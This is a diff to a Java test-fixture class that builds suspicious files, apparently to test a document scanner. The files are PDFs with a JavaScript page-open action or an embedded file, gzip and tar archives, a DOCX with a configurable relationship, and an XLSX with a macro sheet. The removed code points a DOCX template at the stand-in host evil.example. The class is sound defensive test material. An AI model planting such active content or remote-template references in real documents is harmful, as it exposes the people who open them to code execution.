@@ -1,5 +1,6 @@
 package com.mockhu.dm.support;
 
+import java.io.ByteArrayInputStream;
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
 import java.io.UncheckedIOException;
@@ -9,18 +10,26 @@ import java.nio.charset.StandardCharsets;
 import java.util.LinkedHashMap;
 import java.util.Map;
 import java.util.zip.CRC32;
+import java.util.zip.GZIPOutputStream;
 import java.util.zip.ZipEntry;
 import java.util.zip.ZipOutputStream;
 import org.apache.commons.compress.archivers.sevenz.SevenZArchiveEntry;
 import org.apache.commons.compress.archivers.sevenz.SevenZOutputFile;
+import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
+import org.apache.commons.compress.archivers.tar.TarArchiveOutputStream;
 import org.apache.commons.compress.utils.SeekableInMemoryByteChannel;
 import org.apache.pdfbox.pdmodel.PDDocument;
+import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
+import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
 import org.apache.pdfbox.pdmodel.PDPage;
+import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
+import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
 import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
 import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
 import org.apache.pdfbox.pdmodel.interactive.action.PDAction;
 import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
 import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
+import org.apache.pdfbox.pdmodel.interactive.action.PDPageAdditionalActions;
 
 /** Documents and archives made for a test. */
 public final class Papers {
@@ -47,6 +56,75 @@ public final class Papers {
 
   public static byte[] pdfWithPassword() {
     return pdf(null, "secret");
+  }
+
+  public static byte[] pdfWithActionOnPage() {
+    return pdf(
+        document -> {
+          PDPageAdditionalActions actions = new PDPageAdditionalActions();
+          actions.setO(new PDActionJavaScript("app.alert(1)"));
+          document.getPage(0).setActions(actions);
+        });
+  }
+
+  public static byte[] pdfWithFile(String name) {
+    return pdf(
+        document -> {
+          PDComplexFileSpecification file = new PDComplexFileSpecification();
+          file.setFile(name);
+          file.setEmbeddedFile(
+              new PDEmbeddedFile(document, new ByteArrayInputStream(text("content"))));
+          PDEmbeddedFilesNameTreeNode names = new PDEmbeddedFilesNameTreeNode();
+          names.setNames(Map.of(name, file));
+          PDDocumentNameDictionary all =
+              new PDDocumentNameDictionary(document.getDocumentCatalog());
+          all.setEmbeddedFiles(names);
+          document.getDocumentCatalog().setNames(all);
+        });
+  }
+
+  private interface Change {
+    void to(PDDocument document) throws IOException;
+  }
+
+  private static byte[] pdf(Change change) {
+    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+    try (PDDocument document = new PDDocument()) {
+      document.addPage(new PDPage());
+      change.to(document);
+      document.save(bytes);
+    } catch (IOException e) {
+      throw new UncheckedIOException(e);
+    }
+    return bytes.toByteArray();
+  }
+
+  public static byte[] joined(byte[] first, byte[] second) {
+    return ByteBuffer.allocate(first.length + second.length).put(first).put(second).array();
+  }
+
+  public static byte[] gzip(byte[] content) {
+    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+    try (GZIPOutputStream out = new GZIPOutputStream(bytes)) {
+      out.write(content);
+    } catch (IOException e) {
+      throw new UncheckedIOException(e);
+    }
+    return bytes.toByteArray();
+  }
+
+  public static byte[] tar(String name, byte[] content) {
+    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+    try (TarArchiveOutputStream out = new TarArchiveOutputStream(bytes)) {
+      TarArchiveEntry entry = new TarArchiveEntry(name);
+      entry.setSize(content.length);
+      out.putArchiveEntry(entry);
+      out.write(content);
+      out.closeArchiveEntry();
+    } catch (IOException e) {
+      throw new UncheckedIOException(e);
+    }
+    return bytes.toByteArray();
   }
 
   private static byte[] pdf(PDAction action, String password) {
@@ -76,13 +154,20 @@ public final class Papers {
     return zip(parts);
   }
 
-  public static byte[] docxWithForeignTemplate() {
+  /** {@code attributes} of the one relationship of its settings. */
+  public static byte[] docxReferringTo(String attributes) {
     Map<String, byte[]> parts = docxParts();
     parts.put(
         "word/_rels/settings.xml.rels",
-        text(
-            "<Relationships><Relationship Type=\"http://x/attachedTemplate\""
-                + " Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>"));
+        text("<Relationships><Relationship " + attributes + "/></Relationships>"));
+    return zip(parts);
+  }
+
+  public static byte[] xlsxWithMacroSheet() {
+    Map<String, byte[]> parts = new LinkedHashMap<>();
+    parts.put("[Content_Types].xml", text(TYPES.formatted("spreadsheetml.sheet.main+xml")));
+    parts.put("xl/workbook.xml", text("<workbook/>"));
+    parts.put("xl/macrosheets/sheet1.xml", text("<macrosheet/>"));
     return zip(parts);
   }
 
